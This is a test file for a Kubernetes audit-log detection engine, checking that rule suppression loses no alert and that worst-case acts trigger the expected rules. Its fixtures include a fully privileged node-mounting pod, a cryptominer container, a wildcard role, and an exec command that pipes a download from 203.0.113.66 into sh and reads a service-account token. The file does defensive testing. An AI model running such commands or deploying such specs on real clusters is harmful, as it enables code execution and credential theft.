/**
 * Our general rules leave to special ones what these tell of. Nothing is lost by it: whoever is not told by the one is
 * told by the other, no later, and as loudly.
 */
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { random } from '../../bench/random.ts';
import { loadRules } from '../../src/compile/rules/load.ts';
import { matchEvents } from '../../src/match/match.ts';
import type { Rule } from '../../src/rule.ts';
import type { SourcedEvent } from '../../src/schema/audit-event.ts';
import { alice, type Client, nobody, pods, workload } from '../fixtures/sample/cluster.ts';
import { record } from '../fixtures/sample/event.ts';
import { curl, kubectl } from '../fixtures/stories/cast.ts';
import { storyEvents } from '../fixtures/stories/events.ts';
import {
  container,
  pod,
  role,
  wholeNode,
  workload as workloadObject,
} from '../fixtures/stories/manifests.ts';
import { create, exec, list } from '../fixtures/stories/requests.ts';
import type { Deed } from '../fixtures/stories/story.ts';
import { ruleSet, rulesWithCases, unyielding } from './own-rules.ts';

const yieldsTo = (rule: Rule): readonly string[] => (rule.type === 'query' ? (rule.yieldsTo ?? []) : []);
const rules = new Map(ruleSet.rules.map(({ rule }) => [rule.id, rule]));
const origin = { source: 'a test' };
const events: readonly SourcedEvent[] = [
  ...rulesWithCases.flatMap(({ cases }) =>
    cases.flatMap(({ events: of, cut: partial }) =>
      of.map((event, index) => ({ event, origin, position: index, partial: partial ?? false })),
    ),
  ),
  ...storyEvents().map((event, index) => ({ event, origin, position: index, partial: false })),
];

/** Of each event, which rules tell of it. */
const told = events.map((event) => {
  const by = (set: typeof ruleSet) => matchEvents(set, [event], 0).matches.map(({ rule }) => rule.id);
  return { all: by(unyielding), left: by(ruleSet) };
});

const severities = ['low', 'medium', 'high', 'critical'];
const loudness = ({ severity, buildingBlock }: Rule): number =>
  severities.indexOf(severity) + (buildingBlock ? 0 : severities.length);
const nameOf = (id: string): string => rules.get(id)?.name ?? id;

it('names rules that are there, and that are as loud', () => {
  const { rules: loaded } = loadRules([fileURLToPath(new URL('../../rules/', import.meta.url))]);
  const idle = loaded.flatMap((rule) => {
    const named = rule.type === 'query' ? (rule.yieldsTo ?? []) : [];
    const compiled = rules.get(rule.metadata.id);
    const effective = new Set(compiled === undefined ? [] : yieldsTo(compiled).map(nameOf));
    return named.filter(({ value }) => !effective.has(value)).map(({ value }) => [rule.metadata.name, value]);
  });
  expect(idle).toEqual([]);
  expect(
    loaded.filter((rule) => rule.type === 'query' && rule.yieldsTo !== undefined).length,
  ).toBeGreaterThan(30);
});

describe('of an event', () => {
  it('somebody is told as loudly as without it, and by a rule that is not held back', () => {
    const lost = told.flatMap(({ all, left }) =>
      all
        .filter((id) => !left.includes(id))
        .filter((id) => {
          const silent = rules.get(id);
          const others = left.flatMap((other) => rules.get(other) ?? []);
          return !others.some(
            (other) =>
              silent !== undefined &&
              loudness(other) >= loudness(silent) &&
              (other.suppression === undefined ||
                JSON.stringify(other.suppression) === JSON.stringify(silent.suppression)),
          );
        }),
    );
    expect(lost.map(nameOf)).toEqual([]);
  });

  it('no rule is told of that does not match it', () => {
    expect(told.every(({ all, left }) => left.every((id) => all.includes(id)))).toBe(true);
  });
});

const inside = workload(pods.checkout, kubectl);
const worst = {
  hostPID: true,
  hostNetwork: true,
  nodeName: pods.checkout.node.name,
  securityContext: { seccompProfile: { type: 'Unconfined' } },
  containers: [
    container('main', 'docker.io/library/busybox:1.36', {
      securityContext: { privileged: true, capabilities: { add: ['SYS_ADMIN', 'NET_ADMIN'] } },
      ports: [{ containerPort: 8080, hostPort: 8080 }],
      volumeMounts: [{ name: 'host', mountPath: '/host' }],
    }),
  ],
  volumes: [wholeNode],
};
const command =
  'curl -s http://203.0.113.66/x.sh | sh; cat /var/run/secrets/kubernetes.io/serviceaccount/token';
const broad = role('broad', [
  { verbs: ['*'], apiGroups: ['*'], resources: ['*', 'pods/exec', 'nodes/proxy', 'serviceaccounts/token'] },
]);

describe('an act at its worst is told of by few rules:', () => {
  it.each<[string, Client, Deed, readonly string[]]>([
    [
      'a DaemonSet with all of a node, in kube-system',
      alice,
      create(workloadObject('DaemonSet', 'kube-system/agent', worst)),
      ['Privileged Container'],
    ],
    ['a job like it', alice, create(workloadObject('Job', 'payments/once', worst)), ['Privileged Container']],
    [
      "a pod like it, with a pod's token",
      inside,
      create(pod('payments/once', worst)),
      ['Privileged Container'],
    ],
    [
      'one with the node and no privilege',
      alice,
      create(
        workloadObject('DaemonSet', 'kube-system/agent', {
          ...worst,
          containers: [container('main', 'agent:1')],
        }),
      ),
      [
        'Container without Seccomp, AppArmor or Masked Paths',
        "Pod in the Host's Process or IPC Namespace",
        'Sensitive Path of the Node Mounted',
      ],
    ],
    [
      'a miner with it',
      alice,
      create(
        pod('payments/xmrig', {
          ...worst,
          containers: [
            ...worst.containers,
            container('miner', 'xmrig:6', { args: ['-o', 'stratum+tcp://a:3333'] }),
          ],
        }),
      ),
      ['Cryptominer Deployed', 'Privileged Container'],
    ],
    [
      'an exec in kube-system that downloads, runs and reads a token',
      alice,
      exec('kube-system/coredns-7bf648ff5d-5kcv9', ['sh', '-c', command]),
      ['Exec Piping a Download into a Shell', 'Exec Reading a Workload Identity Token'],
    ],
    [
      "the same with a pod's token",
      inside,
      exec('kube-system/coredns-7bf648ff5d-5kcv9', ['sh', '-c', command]),
      [
        'Exec Piping a Download into a Shell',
        'Exec Reading a Workload Identity Token',
        'Exec from a Pod with a Command-Line Client',
      ],
    ],
    [
      'a role that allows everything in several words',
      alice,
      create(broad),
      ['Role That Allows Escalation', 'Role That Allows Everything'],
    ],
    [
      'all secrets, with curl',
      { ...inside, agent: curl },
      list('secrets'),
      ['Secrets of All Namespaces Read by Hand'],
    ],
    [
      'all secrets, without a credential',
      nobody('203.0.113.66', curl),
      list('secrets'),
      ['Secret or ConfigMap Read Anonymously'],
    ],
  ])('%s', (_, by, does, names) => {
    const lines = record({ ...does, by, at: Date.parse('2026-11-17T09:00:00Z') }, random(1));
    const sourced = lines.map(({ line }, position) => ({
      event: JSON.parse(line),
      origin,
      position,
      partial: false,
    }));
    const matches = matchEvents(ruleSet, sourced, 0).matches;
    const told = new Set(matches.flatMap(({ rule }) => (rule.type === 'query' ? rule.name : [])));
    expect([...told].toSorted()).toEqual(names);
  });
});
